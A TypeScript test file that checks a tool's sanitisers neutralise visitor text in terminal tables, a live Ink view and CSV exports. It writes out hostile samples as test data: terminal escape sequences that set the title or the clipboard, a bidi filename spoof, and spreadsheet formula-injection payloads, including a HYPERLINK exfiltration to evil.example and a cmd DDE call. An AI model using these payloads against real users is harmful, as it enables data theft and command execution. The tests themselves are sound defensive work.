import {EventEmitter} from 'node:events'
import React from 'react'
import {render} from 'ink'
import {afterEach, describe, expect, it} from 'vitest'
import {formatTable} from '../../src/cli/table.js'
import {csvSafe, terminalSafe} from '../../src/format/safe.js'
import {toCsv} from '../../src/reports/output.js'
import {TopView} from '../../src/serve/top-view.js'
import {tempDir} from '../helpers/cli.js'
import {startInProcess, type InProcessServe} from '../helpers/serve-app.js'

// Issue 15, #8: what visitors post is shown in terminals and opened in spreadsheets, inert in both.

const ESC = '\u001b'
const BEL = '\u0007'
/** What an unauthenticated visitor can send as a visitor id or keyword. */
const HOSTILE = {
  title: `${ESC}]0;pwned${BEL}`, // sets the terminal window title
  clipboard: `${ESC}]52;c;ZWNobyBoaQ==${BEL}`, // writes the clipboard (OSC 52)
  clear: `${ESC}[2J${ESC}[H`, // clears the screen
  c1: '\u009b31m', // a one-byte CSI
  bidi: 'abc\u202egnp.exe', // shows as "abcexe.png"
}

describe('terminalSafe', () => {
  it('shows each control character as an escape instead of passing it to the terminal', () => {
    expect(terminalSafe(HOSTILE.title)).toBe('\\x1b]0;pwned\\x07')
    expect(terminalSafe(HOSTILE.clipboard)).toBe('\\x1b]52;c;ZWNobyBoaQ==\\x07')
    expect(terminalSafe(HOSTILE.c1)).toBe('\\x9b31m')
    expect(terminalSafe(HOSTILE.bidi)).toBe('abc\\u202egnp.exe')
    expect(terminalSafe('佳能维修站 a\tb\r\n')).toBe('佳能维修站 a\\x09b\\x0d\\x0a')
    expect(terminalSafe('plain 佳能 text é')).toBe('plain 佳能 text é')
  })

  it('every table (cli/table.ts) shows visitor text inert, headers included', () => {
    const out = formatTable([{visitor: `v${HOSTILE.title}`, [`term${ESC}[31m`]: HOSTILE.clear, n: 3}])
    expect(out).not.toContain(ESC)
    expect(out).toContain('v\\x1b]0;pwned\\x07')
    expect(out).toContain('term\\x1b[31m')
  })
})

describe('csvSafe', () => {
  it('makes cells a spreadsheet would evaluate into text, and leaves numbers alone', () => {
    expect(csvSafe('=HYPERLINK("http://evil.example/?x="&A1,"查看")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"查看")')
    expect(csvSafe('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(csvSafe('+cmd|" /C calc"!A0')).toBe('\'+cmd|" /C calc"!A0')
    expect(csvSafe('-2+3')).toBe("'-2+3")
    expect(csvSafe('\t=1')).toBe("'\t=1")
    expect(csvSafe('-5')).toBe('-5')
    expect(csvSafe('+86.5')).toBe('+86.5')
    expect(csvSafe('佳能维修站')).toBe('佳能维修站')
  })

  it('the CSV writer (reports/output.ts toCsv) neutralises formula cells', () => {
    const csv = toCsv([{term: '=HYPERLINK("http://evil.example","x")', n: -5, note: '-note'}])
    expect(csv).toBe('term,n,note\n"\'=HYPERLINK(""http://evil.example"",""x"")",-5,\'-note\n')
  })
})

/** A stdout for Ink that keeps what is written. */
class FakeStdout extends EventEmitter {
  columns = 120
  rows = 40
  isTTY = true
  written = ''
  write(chunk: string): boolean {
    this.written += chunk
    return true
  }
}

describe('ccx top (Ink)', () => {
  const dirs: Array<{cleanup: () => void}> = []
  let serve: InProcessServe | undefined
  afterEach(async () => {
    await serve?.stop()
    serve = undefined
    dirs.splice(0).forEach((d) => d.cleanup())
  })

  it('shows a visitor id and keyword carrying escape sequences as text', async () => {
    const dir = tempDir()
    dirs.push(dir)
    serve = await startInProcess(dir.path)
    serve.app.publishLive({
      site: 'canon-cn',
      visitorId: `id${HOSTILE.title}`,
      lastSeen: new Date().toISOString(),
      source: 'Baidu',
      term: `kw${HOSTILE.clipboard}${HOSTILE.clear}`,
      city: '深圳市',
      intent: 'service_station',
      visitNumber: 1,
      directives: [`d${HOSTILE.c1}`],
    })
    const stdout = new FakeStdout()
    const app = render(React.createElement(TopView, {url: `${serve.admin}/live`}), {
      stdout: stdout as unknown as NodeJS.WriteStream,
      patchConsole: false,
      debug: true,
    })
    const deadline = Date.now() + 20_000
    while (!stdout.written.includes('深圳市') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20))
    app.unmount()
    expect(stdout.written).toContain('深圳市')
    for (const raw of [HOSTILE.title, HOSTILE.clipboard, HOSTILE.clear, HOSTILE.c1, `${ESC}]`]) expect(stdout.written).not.toContain(raw)
    expect(stdout.written).toContain('id\\x1b]0;pwned')
  })
})
